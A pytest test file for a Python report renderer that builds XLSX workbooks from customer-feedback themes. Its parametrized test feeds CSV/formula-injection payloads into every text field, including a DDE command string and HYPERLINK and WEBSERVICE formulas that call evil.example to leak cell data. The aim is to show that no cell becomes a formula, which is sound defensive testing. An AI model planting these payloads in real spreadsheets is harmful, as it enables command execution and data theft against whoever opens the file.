from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from datetime import date
from typing import TYPE_CHECKING, Any

import pytest
from python_calamine import CalamineWorkbook

from thememiner.report import render_xlsx
from thememiner.report.workbook import MAX_TEXT

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from thememiner.report.contract import Report

SOFFICE = shutil.which("soffice")
FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\uff1d1",
    '=HYPERLINK("https://evil.example","x")', "=WEBSERVICE(\"https://evil.example\")",
    "{=1+1}", "http://evil.example/\"&A1", "https://evil.example/" + "a" * 3000,
)  # fmt: skip


def read(data: bytes) -> dict[str, list[list[Any]]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def table(data: bytes, name: str) -> list[dict[str, Any]]:
    head, *rows = read(data)[name]
    return [dict(zip(head, row, strict=True)) for row in rows]


def parts(data: bytes) -> dict[str, str]:
    whole = zipfile.ZipFile(io.BytesIO(data))
    return {name: whole.read(name).decode() for name in whole.namelist() if name.endswith("xml")}


def test_workbook_has_its_sheets_each_with_a_filter_and_a_first_row_that_stays(
    report: Report,
) -> None:
    data = render_xlsx(report)
    assert list(read(data)) == ["Themes", "Evidence", "Segments", "Weeks", "Run"]
    sheets = [text for name, text in parts(data).items() if "worksheets/sheet" in name]
    assert len(sheets) == 5
    assert all("<autoFilter" in text and 'state="frozen"' in text for text in sheets)


def test_numbers_and_days_are_numbers_and_days(report: Report) -> None:
    data = render_xlsx(report)
    rows, themes = table(data, "Themes"), [*report["themes"], *report["praise"]]
    assert len(rows) == len(themes)
    for row, theme in zip(rows, themes, strict=True):
        assert (row["Rank"], row["Theme id"]) == (theme["rank"], theme["theme_id"])
        assert row["Customers who wrote in"] == theme["n_customers"]
        assert row["Reports"] == theme["n_documents"]
        assert row["Share of reports"] == pytest.approx(theme["share"])
        assert row["First seen"] == date.fromisoformat(theme["first_seen"] or "")
    split = [row for row in table(data, "Segments") if row["Theme id"] == "t003"]
    assert {row["Value"]: row["Reports"] for row in split if row["What"] == "source"} == (
        report["themes"][2]["by_source"]
    )
    assert sum("Trend" in row for row in rows) == len(rows)
    assert parts(data)["xl/worksheets/sheet1.xml"].count("<x14:sparkline>") == len(rows)


def test_weeks_are_those_of_the_series(report: Report) -> None:
    rows = table(render_xlsx(report), "Weeks")
    for row, theme in zip(rows, [*report["themes"], *report["praise"]], strict=True):
        assert [row[week["week"]] for week in theme["series"]] == [
            week["n_documents"] for week in theme["series"]
        ]


def test_equal_reports_give_equal_bytes(report: Report) -> None:
    assert render_xlsx(report) == render_xlsx(report)


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_cell_is_a_formula(report_with: Callable[..., Report], payload: str) -> None:
    quote = {
        "document_id": payload, "quote": payload, "created_at": None, "source": payload,
        "url": payload,
    }  # fmt: skip
    report = report_with(
        {
            "theme_id": payload, "name": payload, "headline": payload, "terms": (payload,),
            "exemplars": (quote,), "by_source": {payload: 1}, "by_segment": {payload: 2},
        },
        notes=(payload,),
    )  # fmt: skip
    data = render_xlsx(report)
    for name, text in parts(data).items():
        assert not re.search(r"<f[ >]|t=\"str\"", text), name
    shown = {cell for rows in read(data).values() for row in rows for cell in row}
    assert {report["themes"][0]["name"], report["themes"][0]["theme_id"]} <= shown


def test_text_longer_than_a_cell_is_cut(report_with: Callable[..., Report]) -> None:
    report = report_with({"name": "a" * 40_000})
    name = table(render_xlsx(report), "Themes")[0]["Theme"]
    assert len(name) == MAX_TEXT
    assert name.endswith("a…")


def test_workbook_of_an_empty_store_has_its_headings(empty_report: Report) -> None:
    data = render_xlsx(empty_report)
    assert len(read(data)["Themes"]) == 1
    assert ["Freshness", "snapshot 12 · run 1 Jul 2024"] in read(data)["Run"]


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_it_and_finds_no_formula(report: Report, tmp_path: Path) -> None:
    file = tmp_path / "report.xlsx"
    file.write_bytes(render_xlsx(report))
    subprocess.run(
        [str(SOFFICE), "--headless", f"-env:UserInstallation={(tmp_path / 'office').as_uri()}",
         "--convert-to", "fods", "--outdir", str(tmp_path), str(file)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    text = (tmp_path / "report.fods").read_text("utf-8")
    assert "Cannot sign in" in text
    assert "table:formula=" not in text
